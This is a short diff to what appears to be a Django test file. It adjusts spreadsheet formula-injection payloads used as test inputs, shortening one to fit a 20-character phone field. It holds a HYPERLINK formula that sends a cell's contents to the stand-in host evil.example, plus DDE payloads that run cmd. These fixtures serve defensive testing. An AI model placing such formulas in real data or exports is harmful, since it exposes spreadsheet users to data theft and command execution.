@@ -28,7 +28,7 @@ pytestmark = pytest.mark.django_db
 
 EQ = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 PLUS = "+cmd|' /C calc'!A0"
-MINUS = "-2+3+cmd|' /C calc'!A0"
+MINUS = "-2+cmd|'/C calc'!A0"  # 19 characters: it also fills a phone field (max 20)
 AT = "@SUM(1+1)*cmd|' /C calc'!A0"
 TAB = "\t=1+1"
 CR = "\r=2+2"
